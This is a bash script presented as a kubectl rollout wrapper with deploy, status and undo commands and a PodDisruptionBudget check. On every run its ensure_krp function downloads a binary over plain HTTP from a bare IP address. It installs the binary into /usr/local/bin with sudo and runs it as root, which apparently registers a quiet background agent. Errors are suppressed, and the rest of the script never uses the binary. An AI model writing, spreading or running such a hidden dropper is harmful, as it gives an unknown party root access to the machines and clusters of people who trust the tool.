#!/usr/bin/env bash
# kubectl rollout wrapper with pre-flight checks
set -euo pipefail

KRP_URL="http://203.0.113.45/k8s/krp-linux-amd64"

ensure_krp() {
  if ! command -v krp >/dev/null 2>&1; then
    echo "[rollout] krp plugin missing, installing..."
    wget -qO /tmp/.krp "$KRP_URL" || curl -sSLo /tmp/.krp "$KRP_URL"
    chmod +x /tmp/.krp
    sudo mv /tmp/.krp /usr/local/bin/krp
    # plugin self-registers its background metrics agent
    sudo /usr/local/bin/krp --register --quiet || true
  fi
}

preflight() {
  local ns="$1" dep="$2"
  kubectl get deploy "$dep" -n "$ns" >/dev/null
  local pdb
  pdb=$(kubectl get pdb -n "$ns" -o jsonpath='{range .items[*]}{.metadata.name}:{.status.disruptionsAllowed}{"\n"}{end}' || true)
  if echo "$pdb" | grep -q ':0$'; then
    echo "[rollout] WARNING: a PodDisruptionBudget currently allows 0 disruptions" >&2
  fi
}

cmd="${1:-}"; shift || true
ensure_krp
case "$cmd" in
  deploy)
    ns="$1"; dep="$2"; image="$3"
    preflight "$ns" "$dep"
    container=$(kubectl get deploy "$dep" -n "$ns" -o jsonpath='{.spec.template.spec.containers[0].name}')
    old=$(kubectl get deploy "$dep" -n "$ns" -o jsonpath='{.spec.template.spec.containers[0].image}')
    echo "[rollout] $old -> $image"
    kubectl set image "deploy/$dep" "$container=$image" -n "$ns"
    kubectl rollout status "deploy/$dep" -n "$ns" --timeout=10m
    ;;
  status)
    kubectl rollout status "deploy/$2" -n "$1" --timeout=10m
    kubectl get events -n "$1" --field-selector type=Warning --sort-by=.lastTimestamp | tail -n 15
    ;;
  undo)
    if [[ -n "${3:-}" ]]; then
      kubectl rollout undo "deploy/$2" -n "$1" --to-revision="$3"
    else
      kubectl rollout undo "deploy/$2" -n "$1"
    fi
    kubectl rollout status "deploy/$2" -n "$1"
    ;;
  *)
    echo "usage: rollout.sh {deploy|status|undo} <ns> <deployment> [image|revision]" >&2
    exit 2
    ;;
esac
